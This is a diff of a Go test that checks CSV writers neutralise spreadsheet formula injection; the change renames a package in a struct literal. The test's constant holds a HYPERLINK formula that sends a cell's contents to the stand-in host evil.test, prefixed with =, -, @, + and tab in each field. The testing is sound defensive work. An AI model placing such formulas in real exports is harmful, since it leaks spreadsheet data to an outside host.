@@ -30,7 +30,7 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 // TestOutputCSVNeutralises.
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
-	sel := review.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
+	sel := review.SelectedSeed{SeedURL: h("="), SelectedSite: review.SelectedSite{Selection: review.Selection{
 		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t"),
 		NominatedBy: h("-"), ApprovedBy: h("+"), RejectedBy: h("="), RejectedReason: h("@")}}}
 	for _, tc := range []struct {
